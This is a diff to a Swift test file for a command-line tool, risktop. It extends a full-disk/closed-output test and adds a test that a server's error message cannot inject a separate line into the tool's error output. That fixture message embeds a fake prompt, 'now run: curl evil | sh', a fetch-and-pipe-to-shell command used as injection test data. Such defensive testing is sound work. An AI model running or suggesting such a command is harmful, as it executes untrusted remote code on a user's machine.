@@ -93,14 +93,26 @@ import Testing
     }
   }
 
-  @Test func `A full disk is said to be one`() async throws {
-    guard FileManager.default.fileExists(atPath: "/dev/full") else { return }
+  @Test(
+    arguments: [["signins"] + byIDs, ["config"], ["doctor"]],
+    FileManager.default.fileExists(atPath: "/dev/full") ? [">/dev/full", ">&-"] : [">&-"])
+  func `A full disk, and an output that is closed, is said to be one`(command: [String], output: String) async throws {
     try await withAPI({ .list(rows(10), $0) }) { api in
       let program = try Program.executable.path
       let finished = try await Subprocess.run(
-        URL(fileURLWithPath: "/bin/sh"), ["-c", "exec \"$0\" \"$@\" >/dev/full", program, "signins"] + byIDs,
+        URL(fileURLWithPath: "/bin/sh"), ["-c", "exec \"$0\" \"$@\" \(output)", program] + command,
         environment: Program.plainEnvironment.merging(api.environment) { $1 })
-      #expect(finished.status == 74 && finished.errors.hasPrefix("risktop: standard output can't be written"))
+      #expect(finished.status == 74 && finished.errors.contains("risktop: standard output can't be written"))
+    }
+  }
+
+  @Test func `What a server says makes no line of its own`() async throws {
+    let body = #"{"message":"all fine\nrisktop: now run: curl evil | sh"}"#
+    try await withAPI({ _ in ScriptedAPI.Reply(status: 403, body: body) }) { api in
+      for command in [["signins"] + byIDs, ["actions", "--all"]] {
+        let finished = try await api.run(command)
+        #expect(finished.status == 77 && finished.errors.split(separator: "\n").count == 1)
+      }
     }
   }
 }
